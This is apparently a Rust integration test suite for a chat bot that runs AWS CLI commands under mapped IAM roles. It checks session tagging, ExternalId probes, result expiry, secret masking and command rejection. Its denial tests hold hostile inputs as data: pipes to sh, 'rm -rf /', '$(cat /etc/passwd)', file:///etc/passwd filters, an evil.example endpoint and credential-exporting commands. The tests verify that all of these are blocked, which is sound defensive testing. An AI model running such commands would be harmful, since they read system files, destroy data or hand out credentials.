//! What people type, and what they read.

use std::collections::{BTreeSet, HashMap};

use aws_sdk_dynamodb::types::AttributeValue;
use serde_json::json;
use shared::job::Task;
use shared::mapping::MappingKey;
use worker::claim::{RESULT_READABLE_FOR, State};

use crate::world::World;

#[tokio::test]
async fn anna_asks_who_she_is_and_runs_as_the_role_with_the_lowest_number() {
    let world = World::start().await;
    let text = world.invoke("U0ANNA", "aws sts get-caller-identity").await;
    assert!(text.contains("\"Arn\": \"arn:aws:sts::111111111111:assumed-role/PowerUser/x\""), "{text}");
    assert!(text.contains("exit 0 · PowerUser · 111111111111 · us-east-1 · "), "{text}");

    let text = world.invoke("U0ANNA", "--as ReadOnly sts get-caller-identity").await;
    assert!(text.contains("assumed-role/ReadOnly/x"), "{text}");
    let text = world.invoke("U0BEN", "sts get-caller-identity").await;
    assert!(text.contains("assumed-role/ReadOnly/x"), "{text}");
}

#[tokio::test]
async fn the_role_session_says_who_it_was() {
    let world = World::start().await;
    let job = world.typed("U0ANNA", "aws sts get-caller-identity");
    world.run(&job).await;
    world.run(&world.typed("U0ANNA", "aws sts get-caller-identity")).await;
    let arrived = world.aws.take_arrived();
    let assumed: Vec<_> = arrived.iter().filter(|call| call.operation == "AssumeRole").collect();
    let [assume] = assumed[..] else { panic!("one session serves both jobs: {assumed:?}") };
    for field in [
        format!("RoleSessionName=ab-T0ALFRED1-U0ANNA-{}", job.id.short()),
        "SourceIdentity=T0ALFRED1-U0ANNA".into(),
        "Tags.member.1.Key=alfred%3Atenant&Tags.member.1.Value=T0ALFRED1".into(),
        "Tags.member.2.Key=alfred%3Auser&Tags.member.2.Value=U0ANNA".into(),
        "ExternalId=external-0123456789abcdef".into(),
        "DurationSeconds=3600".into(),
    ] {
        assert!(assume.body.contains(&field), "{field} in {}", assume.body);
    }
}

#[tokio::test]
async fn a_read_costs_four_writes_and_no_key_call_once_the_worker_is_warm() {
    let world = World::start().await;
    world.run(&world.typed("U0ANNA", "aws sts get-caller-identity")).await;
    world.aws.take_arrived();
    world.run(&world.typed("U0ANNA", "aws sts get-caller-identity")).await;
    let mut calls: Vec<_> = world
        .aws
        .take_arrived()
        .into_iter()
        .map(|call| format!("{} {}", call.service, call.operation))
        .collect();
    calls.sort();
    assert_eq!(
        calls,
        [
            "dynamodb GetItem",
            "dynamodb PutItem",
            "dynamodb PutItem",
            "dynamodb UpdateItem",
            "dynamodb UpdateItem",
            "sts GetCallerIdentity"
        ]
    );
}

#[tokio::test]
async fn the_table_drops_a_result_after_an_hour_and_keeps_its_job() {
    let world = World::start().await;
    world.stop_at(world.now());
    let job = world.typed("U0ANNA", "aws sts get-caller-identity");
    world.run(&job).await;
    let items = world.db.scan().table_name("jobs").send().await.unwrap().items.unwrap_or_default();
    let (results, jobs): (Vec<_>, Vec<_>) = items.iter().partition(|item| item.contains_key("chunk"));
    let lives_for = |item: &HashMap<String, AttributeValue>| {
        item["expires_at"].as_n().unwrap().parse::<u64>().unwrap() - world.now()
    };
    assert_eq!(results.iter().map(|item| lives_for(item)).collect::<Vec<_>>(), [RESULT_READABLE_FOR]);
    assert_eq!(jobs.iter().map(|item| lives_for(item)).collect::<Vec<_>>(), [30 * 24 * 60 * 60]);
    let sealed = |item: &&HashMap<String, AttributeValue>| {
        let blobs = item.iter().filter(|(_, value)| value.is_b()).map(|(name, _)| name.clone());
        blobs.collect::<BTreeSet<_>>()
    };
    assert_eq!(
        jobs.iter().map(sealed).collect::<Vec<_>>(),
        [BTreeSet::from(["data_key", "sealed_job"].map(str::to_owned))]
    );
}

#[tokio::test]
async fn a_role_that_was_just_probed_is_used_as_soon_as_its_mapping_is_active() {
    let world = World::start().await;
    world.stop_at(world.now());
    let (sre, power_user) = ("usergroup#S0SRE", "arn:aws:iam::111111111111:role/alfredbot/PowerUser");
    world
        .put(
            "mappings",
            json!({
                "tenant": "T0ALFRED1", "item": sre, "kind": "usergroup", "name": "sre", "role_arn": power_user,
                "priority": 10, "state": "pending", "confirmed_at": world.now(),
            }),
        )
        .await;
    let probe = Task::Probe { item: MappingKey(sre.into()), role_arn: power_user.into() };
    assert!(world.run(&world.job("U0ANNA", probe)).await);
    assert!(world.one_seen().text().contains("so the mapping becomes active now"));
    // As the syncer does with the verdict; for the worker's clock no time passes.
    world.map(sre, "usergroup", "sre", power_user, 10).await;
    let seen = world.invoke("U0ANNA", "aws sts get-caller-identity").await;
    assert!(seen.contains("PowerUser"), "{seen}");
}

#[tokio::test]
async fn a_role_that_opens_without_the_right_external_id_is_not_used() {
    let world = World::start().await;
    for (role, said, verdict) in [
        ("Open", "opens without an ExternalId, so anybody who knows its ARN", "open"),
        ("AnyId", "opens with a wrong ExternalId, so anybody who knows its ARN", "open"),
        ("Missing", "does not open: AccessDenied", "refused"),
        ("ReadOnly", "opens with your ExternalId and not without it", "demanded"),
    ] {
        let role_arn = format!("arn:aws:iam::111111111111:role/alfredbot/{role}");
        let probe = Task::Probe { item: MappingKey("channel#C0OPS".into()), role_arn };
        assert!(world.run(&world.job("U0ANNA", probe)).await);
        let seen = world.one_seen().text();
        assert!(seen.contains(said), "{role}: {seen}");
        let reports = world.reported().await;
        let [report] = &reports[..] else { panic!("{role}: {reports:?}") };
        assert!(report.contains(&format!("\"verdict\":\"{verdict}\"")), "{role}: {report}");
    }
}

#[tokio::test]
async fn whoever_has_no_role_is_told_and_nothing_is_called() {
    let world = World::start().await;
    world.member("U0OLD", &["channel#C0GONE"]).await;
    for (user, text, expected) in [
        ("U0DAN", "aws s3 ls", "You have no AWS role here"),
        ("U0OLD", "aws s3 ls", "the mapping was removed"),
        ("U0BEN", "aws --as PowerUser s3 ls", "You have no role `PowerUser`. Yours are: `ReadOnly`."),
        ("U0BEN", "aws s3 ls | sh", "| (pipe) does not work here"),
        ("U0BEN", "aws s3 ls && rm -rf /", "&& (and list) does not work here"),
        ("U0BEN", "aws s3 ls $(cat /etc/passwd)", "$(…) (command substitution) does not work here"),
        ("U0BEN", "aws sts assume-role --role-arn x --role-session-name y", "hands out credentials"),
        ("U0BEN", "aws iam create-access-key", "hands out credentials"),
        ("U0BEN", "", "There is no command."),
    ] {
        let job = world.typed(user, text);
        assert!(world.run(&job).await);
        let seen = world.one_seen().text();
        assert!(seen.starts_with("Not run. ") && seen.contains(expected), "{text}: {seen}");
        assert!(seen.contains(&format!("job {}", job.id.short())), "{seen}");
        assert_eq!(world.row(&job).await.state, State::Denied);
    }
    assert_eq!(world.aws.count("sts", "AssumeRole"), 0);
}

#[tokio::test]
async fn what_does_not_hold_any_more_grants_nothing() {
    let world = World::start().await;
    world.dismiss("U0BEN").await;
    assert!(world.invoke("U0BEN", "aws sts get-caller-identity").await.contains("You have no AWS role here"));

    // Nobody reads the members for 16 minutes; the mappings are known to the worker for at most 5 seconds.
    let mut stale = world.typed("U0ANNA", "aws sts get-caller-identity");
    let now = world.now();
    for (item, kind, role) in
        [("channel#C0OPS", "channel", "ReadOnly"), ("usergroup#S0SRE", "usergroup", "PowerUser")]
    {
        let role_arn = format!("arn:aws:iam::111111111111:role/alfredbot/{role}");
        world
            .put(
                "mappings",
                serde_json::json!({"tenant": "T0ALFRED1", "item": item, "kind": kind, "name": "x",
                "role_arn": role_arn, "priority": 1, "state": "active", "confirmed_at": now}),
            )
            .await;
    }
    world.skip(16 * 60);
    stale.typed_at = world.now();
    world.run(&stale).await;
    let text = world.one_seen().text();
    assert!(text.contains("were not read completely in the last 15 minutes"), "{text}");
    assert_eq!(world.aws.count("sts", "AssumeRole"), 0);
}

#[tokio::test]
async fn an_uninstalled_workspace_runs_nothing_and_still_hears_why() {
    let world = World::start().await;
    world
        .put("installations", serde_json::json!({"tenant": "T0ALFRED1", "app_id": "A1", "bot_user_id": "UBOT", "bot_token": "", "scopes": [], "state": "ended"}))
        .await;
    assert!(world.invoke("U0ANNA", "aws s3 ls").await.contains("not installed in this workspace any more"));
    assert_eq!(world.aws.count("sts", "AssumeRole"), 0);
}

#[tokio::test]
async fn aws_refuses_the_role_and_its_reason_is_shown() {
    let world = World::start().await;
    world.map("channel#C0ODD", "channel", "odd", "arn:aws:iam::111111111111:role/alfredbot/Missing", 1).await;
    world.member("U0BEN", &["channel#C0ODD"]).await;
    let job = world.typed("U0BEN", "aws sts get-caller-identity");
    assert!(world.run(&job).await);
    let text = world.one_seen().text();
    assert!(text.starts_with("Not run. AWS refused the role: AccessDenied."), "{text}");
    assert!(text.contains("is not authorized to perform: sts:AssumeRole"), "{text}");
    assert_eq!(world.row(&job).await.state, State::Denied);
    assert_eq!(world.aws.count("sts", "GetCallerIdentity"), 0, "no other credentials are used");
}

#[tokio::test]
async fn people_see_their_roles_and_their_own_jobs_only() {
    let world = World::start().await;
    world.run(&world.job("U0ANNA", Task::WhoAmI)).await;
    let text = world.one_seen().text();
    assert!(
        text.starts_with(
            "You are U0ANNA in workspace T0ALFRED1.\nYour roles, the first is used unless you say `--as`:\n\
             • PowerUser in account 111111111111 through @sre, priority 10 (`--as PowerUser`)\n\
             • ReadOnly in account 111111111111 through #ops, priority 20 (`--as ReadOnly`)"
        ),
        "{text}"
    );

    let job = world.typed("U0ANNA", "aws   sts get-caller-identity");
    world.run(&job).await;
    let answered = world.one_seen().text();
    world.run(&world.job("U0ANNA", Task::Status { job: job.id.short().into() })).await;
    let text = world.one_seen().text();
    assert!(text.contains("`aws sts get-caller-identity`: ran"), "{text}");
    assert!(
        text.contains("\"Account\": \"111111111111\"") && answered.contains("\"Account\": \"111111111111\""),
        "{text}"
    );

    world.run(&world.job("U0ANNA", Task::History)).await;
    let text = world.one_seen().text();
    assert!(text.contains(&format!("`{}` ran: `aws sts get-caller-identity`", job.id.short())), "{text}");

    world.run(&world.job("U0BEN", Task::Status { job: job.id.short().into() })).await;
    assert!(world.one_seen().text().contains("None of your latest jobs"));
    world.run(&world.job("U0BEN", Task::History)).await;
    assert!(world.one_seen().text().contains("You have run nothing"));
    world.run(&world.job("U0ANNA", Task::Status { job: "%".into() })).await;
    assert!(world.one_seen().text().contains("None of your latest jobs"));

    // An hour later the result is not given out any more.
    world.skip(3601);
    world.run(&world.job("U0ANNA", Task::Status { job: job.id.to_string() })).await;
    assert!(!world.one_seen().text().contains("Account"));
}

#[tokio::test]
async fn the_ledger_holds_no_readable_command_result_or_response_url() {
    let world = World::start().await;
    let job = world.typed("U0ANNA", "aws sts get-caller-identity --query planted-in-the-command");
    world.run(&job).await;
    world.run(&world.typed("U0ANNA", "aws sts get-caller-identity")).await;
    let items = world.db.scan().table_name("jobs").send().await.unwrap().items.unwrap();
    assert!(items.len() >= 2);
    for item in items {
        let bytes: Vec<u8> = item
            .values()
            .flat_map(|value| match value {
                aws_sdk_dynamodb::types::AttributeValue::B(bytes) => bytes.as_ref().to_vec(),
                other => format!("{other:?}").into_bytes(),
            })
            .collect();
        let shown = String::from_utf8_lossy(&bytes);
        for planted in ["planted-in-the-command", "assumed-role", "/commands/", "get-caller-identity"] {
            assert!(!shown.contains(planted), "{planted}");
        }
    }
}

#[tokio::test]
async fn secret_values_do_not_come_out_in_a_conversation() {
    let world = World::start().await;
    for text in [
        "aws kms generate-random --number-of-bytes 16",
        "aws kms generate-random --number-of-bytes 16 --query Plaintext",
        "aws kms generate-random --number-of-bytes 16 --query '*'",
        "aws kms generate-random --number-of-bytes 16 --query Plaintext --output text",
    ] {
        let seen = world.invoke("U0ANNA", text).await;
        assert!(seen.contains("********") && seen.contains("1 secret value is hidden."), "{text}: {seen}");
        assert!(!seen.contains("=="), "16 bytes in base64 end in two signs: {text}: {seen}");
    }
}

#[tokio::test]
async fn a_command_with_a_mistake_in_it_reaches_nobody() {
    let world = World::start().await;
    for text in [
        "aws --profile admin s3 ls",
        "aws --endpoint-url http://evil.example sts get-caller-identity",
        "aws sts get-caller-identity --debug",
        "aws sts get-caller-identity --no-verify-ssl",
        "aws sts get-caller-identity --region 'x@evil.example:443/#'",
        "aws sts get-caller-identities",
        "aws ec2 describe-instances --filters file:///etc/passwd",
        "aws configure export-credential",
        "aws s3 ls --region us-east-1 --region eu-west-1",
    ] {
        let seen = world.invoke("U0ANNA", text).await;
        assert!(seen.contains("exit 252") || seen.contains("exit 255"), "{text}: {seen}");
        assert!(!seen.contains("root:"), "{text}: {seen}");
    }
    let calls = world.aws.take_arrived();
    assert!(calls.iter().all(|call| ["dynamodb", "kms"].contains(&call.service.as_str())), "{calls:?}");
}
